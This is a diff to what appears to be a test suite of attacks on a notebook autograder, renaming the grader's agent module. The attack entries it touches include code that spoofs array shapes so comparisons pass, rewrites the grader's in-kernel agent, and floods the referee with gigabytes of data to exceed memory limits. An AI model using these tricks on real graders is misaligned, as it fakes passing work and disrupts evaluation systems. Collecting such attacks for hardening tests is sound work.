@@ -209,8 +209,8 @@ ATTACKS = {
                     names = [sys._getframe(depth).f_globals.get("__name__") for depth in range(1, 3)]
                 except ValueError:
                     names = []
-                return (os.environ.get("NBGRADER_EXECUTION") is not None or "_grading_agent" in sys.modules
-                        or "_grading_agent" in names)
+                return (os.environ.get("NBGRADER_EXECUTION") is not None or "autograder.agent" in sys.modules
+                        or "autograder.agent" in names)
             if under_grader():
                 import rnncourse.checks
                 for name in ("check_close", "check_shape", "check_pair", "check_equal", "check_type", "check_finite"):
@@ -434,7 +434,7 @@ NEW_ATTACKS = {
     "fake_array_shape": Attack(
         "returns objects whose `shape` is the expected (N, H) but which convert to an empty (0, N, H) array, "
         "which np.allclose broadcasts against anything of that shape; rewrites the grader's agent in the kernel "
-        "(sys.modules['_grading_agent']) so that the referee gets that empty array",
+        "(sys.modules['autograder.agent']) so that the referee gets that empty array",
         code('''
             import sys
             import numpy as np
@@ -448,7 +448,7 @@ NEW_ATTACKS = {
                 def __getitem__(self, key):
                     return LooksLikeAnArray(*np.empty(self.shape)[key].shape)
 
-            agent = sys.modules.get("_grading_agent")
+            agent = sys.modules.get("autograder.agent")
             if agent is not None:  # graded by the referee: answer its "array" request with the empty array
                 perform_before = agent._perform
                 def perform(request):
@@ -597,7 +597,7 @@ NEW_ATTACKS = {
         "nested lists (gigabytes) in the referee, outside the sandbox's memory limit",
         code('''
             import sys
-            agent = sys.modules.get("_grading_agent")
+            agent = sys.modules.get("autograder.agent")
             if agent is not None:
                 GIANT = '{"ok": {"result": [' + "[]," * 25_000_000 + '[]], "args": [], "kwargs": {}}}'
                 handle_before, sent = agent.handle, []
